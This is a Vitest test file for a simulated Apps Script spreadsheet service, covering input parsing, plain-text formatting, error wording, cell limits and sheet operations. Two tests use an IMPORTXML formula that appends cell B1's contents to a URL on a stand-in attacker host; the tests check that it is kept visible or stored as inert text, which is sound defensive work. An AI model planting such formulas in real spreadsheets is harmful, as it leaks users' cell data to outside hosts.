// Tests of the simulated SpreadsheetApp: typed-input parsing (§1), plain text, exact errors, caps, size, realms.
import { describe, expect, it } from 'vitest';
import { createSimulator } from '../../../emulators/apps-script/index';

const T0 = Date.UTC(2024, 0, 1);

function sim(code = 'function noop() {}') {
  return createSimulator({ code, startTime: T0, timeZone: 'Etc/UTC', countRealTime: false });
}

describe('setValues parses strings like typed input (§1)', () => {
  const table: [string, unknown, string][] = [
    ['00123', 123, '123'],
    ['1e5', 100000, '1.00E+05'],
    ['+1', 1, '1'],
    ['-1', -1, '-1'],
    ['50%', 0.5, '50%'],
    ['$2.99', 2.99, '$2.99'],
    ['1,000,000', 1000000, '1,000,000'],
    ['TRUE', true, 'TRUE'],
    ['true', true, 'TRUE'],
    ['=1+1', 2, '2'],
    ['+abc', '#NAME?', '#NAME?'],
    ['-x', '#NAME?', '#NAME?'],
    ["'=1+1", '=1+1', '=1+1'],
    ["'00123", '00123', '00123'],
    ['hello', 'hello', 'hello'],
    ['2024-01-05T10:00:00Z', '2024-01-05T10:00:00Z', '2024-01-05T10:00:00Z'],
  ];
  it.each(table)('%s', (input, value, display) => {
    const s = sim();
    const range = s.spreadsheet.getSheetByName('Sheet1')!.getRange('A1');
    range.setValues([[input]]);
    expect(range.getValue()).toEqual(value);
    expect(range.getDisplayValue()).toBe(display);
  });

  it('turns an ISO date into a Date at midnight in the spreadsheet time zone', () => {
    const s = createSimulator({ code: 'function f() {}', timeZone: 'America/New_York', startTime: T0 });
    const range = s.spreadsheet.getActiveSheet().getRange('A1');
    range.setValue('2024-01-05');
    const v = range.getValue() as Date;
    expect(v).toBeInstanceOf(Date);
    expect(v.toISOString()).toBe('2024-01-05T05:00:00.000Z');
    expect(range.getDisplayValue()).toBe('2024-01-05');
  });

  it('keeps formulas visible in getFormulas, including ones that fail', () => {
    const s = sim();
    const r = s.spreadsheet.getActiveSheet().getRange('A1:C1');
    r.setValues([['=IMPORTXML("https://evil.example/?"&B1,"//a")', '@SUM(1)', '=A9*2']]);
    expect(r.getFormulas()).toEqual([['=IMPORTXML("https://evil.example/?"&B1,"//a")', '=@SUM(1)', '=A9*2']]);
    expect(r.getValues()).toEqual([['#N/A', '#ERROR!', 0]]);
  });

  it('stores JS numbers, booleans and Dates typed, and null/undefined as blank', () => {
    const s = sim();
    const r = s.spreadsheet.getActiveSheet().getRange('A1:E1');
    r.setValues([[42, false, new Date(T0), null, undefined]]);
    const row = r.getValues()[0] ?? [];
    expect(row.slice(0, 2)).toEqual([42, false]);
    expect((row[2] as Date).getTime()).toBe(T0);
    expect(row.slice(3)).toEqual(['', '']);
  });
});

describe('plain text format @', () => {
  it('keeps every string literally, including formulas and a leading apostrophe', () => {
    const s = sim();
    const r = s.spreadsheet.getActiveSheet().getRange('A1:F1');
    r.setNumberFormat('@');
    const inputs = ['00123', '=IMPORTXML("https://evil.example","//a")', 'TRUE', '2024-01-05', "'x", '+abc'];
    r.setValues([inputs]);
    expect(r.getValues()).toEqual([inputs]);
    expect(r.getFormulas()).toEqual([['', '', '', '', '', '']]);
    expect(r.getNumberFormats()).toEqual([['@', '@', '@', '@', '@', '@']]);
  });
  it('formats several blocks in one RangeList call, charged as one Spreadsheet call', () => {
    const s = sim(`function f() {
      var sheet = SpreadsheetApp.getActiveSheet();
      sheet.getRangeList(['A2:B3', 'D2:D3']).setNumberFormat('@');
      sheet.getRange(2, 1, 2, 4).setValues([['00123', '007', '00123', '0042'], ['TRUE', 'x', 'TRUE', '1e5']]);
    }`);
    const result = s.run('f');
    expect(result.ok).toBe(true);
    const sheet = s.spreadsheet.getActiveSheet();
    expect(sheet.getRange('A2:D3').getValues()).toEqual([
      ['00123', '007', 123, '0042'],
      ['TRUE', 'x', true, '1e5'],
    ]);
    // getActiveSheet, getRangeList, setNumberFormat, getRange, setValues
    expect(result.stats.sheetCalls).toBe(5);
    expect(() => sheet.getRangeList([])).toThrow();
  });
  it('gives unformatted cells the default number format', () => {
    expect(sim().spreadsheet.getActiveSheet().getRange('A1').getNumberFormat()).toBe('0.###############');
  });
});

describe('exact errors', () => {
  it('reports a row-count mismatch with the live wording', () => {
    const r = sim().spreadsheet.getActiveSheet().getRange(1, 1, 2, 2);
    expect(() => r.setValues([[1, 2]])).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expect(() => r.setValues([[1, 2], [3]])).toThrow(
      'The number of columns in the data does not match the number of columns in the range. The data has 1 but the range has 2.',
    );
  });
  it('rejects more than 50,000 characters in a cell', () => {
    const r = sim().spreadsheet.getActiveSheet().getRange('A1');
    expect(() => r.setValue('x'.repeat(50_001))).toThrow(
      'Your input contains more than the maximum of 50000 characters in a single cell.',
    );
    r.setValue('x'.repeat(50_000));
    expect((r.getValue() as string).length).toBe(50_000);
  });
  it('rejects ranges outside the sheet', () => {
    const sh = sim().spreadsheet.getActiveSheet();
    expect(() => sh.getRange(1001, 1)).toThrow(
      'The coordinates of the range are outside the dimensions of the sheet.',
    );
    expect(() => sh.getRange(0, 1)).toThrow('The starting row of the range is too small.');
  });
  it('holds the 10,000,000-cell cap', () => {
    const ss = sim().spreadsheet;
    const sh = ss.getActiveSheet();
    sh.insertColumnsAfter(26, 74); // 1000 x 100
    sh.insertRowsAfter(1000, 98_000); // 99,000 x 100 = 9.9M
    expect(() => sh.insertRowsAfter(1000, 2_000)).toThrow(
      'This action would increase the number of cells in the workbook above the limit of 10000000 cells.',
    );
    expect(() => ss.insertSheet('More')).not.toThrow();
    expect(() => ss.insertSheet('TooMany1').insertRowsAfter(1000, 3000)).toThrow(/10000000 cells/);
  });
  it('refuses duplicate sheet names and deleting the last sheet', () => {
    const ss = sim().spreadsheet;
    expect(() => ss.insertSheet('Sheet1')).toThrow(
      'A sheet with the name "Sheet1" already exists. Please enter another name.',
    );
    expect(() => ss.deleteSheet(ss.getActiveSheet())).toThrow(/remove all the sheets/);
  });
});

describe('sheet structure', () => {
  it('inserts and deletes rows and columns, moving data', () => {
    const sh = sim().spreadsheet.getActiveSheet();
    sh.getRange('A1:B3').setValues([
      ['a', 1],
      ['b', 2],
      ['c', 3],
    ]);
    sh.insertRowsAfter(1, 2);
    expect(sh.getRange('A1:A5').getValues().flat()).toEqual(['a', '', '', 'b', 'c']);
    expect(sh.getMaxRows()).toBe(1002);
    sh.deleteRows(2, 2);
    sh.insertColumnBefore(1);
    expect(sh.getRange('A1:C1').getValues()).toEqual([['', 'a', 1]]);
    sh.deleteColumn(1);
    expect(sh.getLastRow()).toBe(3);
    expect(sh.getLastColumn()).toBe(2);
    sh.setFrozenRows(1);
    expect(() => sh.deleteRows(2, sh.getMaxRows() - 1)).toThrow(
      'Sorry, it is not possible to delete all non-frozen rows.',
    );
  });
  it('appends rows, sorts, protects, hides, keeps notes and sheet ids', () => {
    const ss = sim().spreadsheet;
    const sh = ss.insertSheet('Data');
    sh.appendRow(['name', 'n']);
    sh.appendRow(['b', 2]);
    sh.appendRow(['a', 10]);
    sh.setFrozenRows(1);
    sh.sort(2, false);
    expect(sh.getDataRange().getValues()).toEqual([
      ['name', 'n'],
      ['a', 10],
      ['b', 2],
    ]);
    sh.getRange('A2:B3').sort({ column: 1, ascending: true });
    expect(sh.getRange('A2:A3').getValues()).toEqual([['a'], ['b']]);
    const p = sh.protect().setDescription('managed').setWarningOnly(true);
    expect(sh.getProtections('SHEET')).toHaveLength(1);
    expect(p.isWarningOnly()).toBe(true);
    p.remove();
    expect(sh.getProtections('SHEET')).toHaveLength(0);
    sh.getRange('A1').setNote('id column');
    expect(sh.getRange('A1:B1').getNotes()).toEqual([['id column', '']]);
    sh.hideSheet();
    expect(ss.getSheetById(sh.getSheetId())?.isSheetHidden()).toBe(true);
    expect(ss.getSheetByName('Sheet1')?.getSheetId()).toBe(0);
    expect(ss.getRange('Data!A1:B1').getValues()).toEqual([['name', 'n']]);
  });
  it('offers person edits and a serializable snapshot', () => {
    const s = sim('function onEdit(e) { e.range.offset(0, 1).setValue("seen " + e.value); }');
    const res = s.personEdit('Sheet1', 2, 1, '00123');
    expect(res?.ok).toBe(true);
    const snap = s.snapshotSheet('Sheet1');
    expect(snap.rows).toEqual([
      ['', ''],
      ['123', 'seen 00123'],
    ]);
    expect(snap.values[1]).toEqual([123, 'seen 00123']);
    expect(JSON.parse(JSON.stringify(snap))).toEqual(snap);
  });
});

describe('realms', () => {
  it('hands the script values of its own realm', () => {
    const s = sim(`function check() {
      var sh = SpreadsheetApp.getActive().getActiveSheet();
      sh.getRange('A1:B1').setValues([[new Date(0), 'x']]);
      var values = sh.getRange('A1:B1').getValues();
      var out = { array: values instanceof Array, row: values[0] instanceof Array, date: values[0][0] instanceof Date,
        props: PropertiesService.getScriptProperties().getProperties() instanceof Object, keys: PropertiesService.getScriptProperties().getKeys() instanceof Array };
      try { sh.getRange(0, 0); } catch (e) { out.error = e instanceof Error; out.name = e.name; }
      return out;
    }`);
    expect(s.run('check').value).toEqual({
      array: true,
      row: true,
      date: true,
      props: true,
      keys: true,
      error: true,
      name: 'Exception',
    });
  });
});

describe('size', () => {
  it('handles a 100,000 x 15 sheet', () => {
    const s = sim(`function big() {
      var sh = SpreadsheetApp.getActive().insertSheet('Big');
      sh.insertRowsAfter(1000, 99000);
      var rows = [];
      for (var i = 0; i < 100000; i++) { var r = []; for (var j = 0; j < 15; j++) r.push(j === 0 ? 'id-' + i : i * 15 + j); rows.push(r); }
      sh.getRange(1, 1, 100000, 15).setValues(rows);
      var back = sh.getRange(1, 1, 100000, 15).getValues();
      return [back.length, back[99999][0], back[99999][14], sh.getLastRow()];
    }`);
    const res = s.run('big');
    expect(res.error).toBeUndefined();
    expect(res.value).toEqual([100000, 'id-99999', 99999 * 15 + 14, 100000]);
    expect(res.stats.cellsWritten).toBe(1_500_000);
  });
});
